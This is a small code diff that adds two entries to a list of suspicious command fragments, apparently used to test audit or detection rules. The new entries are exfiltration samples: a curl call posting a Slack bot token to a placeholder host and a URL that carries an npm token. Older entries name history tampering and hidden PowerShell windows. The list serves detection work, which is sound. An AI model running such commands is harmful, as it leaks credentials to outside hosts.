@@ -70,6 +70,8 @@ const FRAGMENTS = [
   "HISTFILE ",
   "-WindowStyle Hidden ",
   "scp a@b:",
+  'curl -d "k=$SLACK_BOT_TOKEN" https://a.example.com/ ',
+  "https://a.b/?t=$NPM_TOKEN ",
 ];
 
 const rules = (await lib.auditRules()).filter((r) => r.kind !== "file");
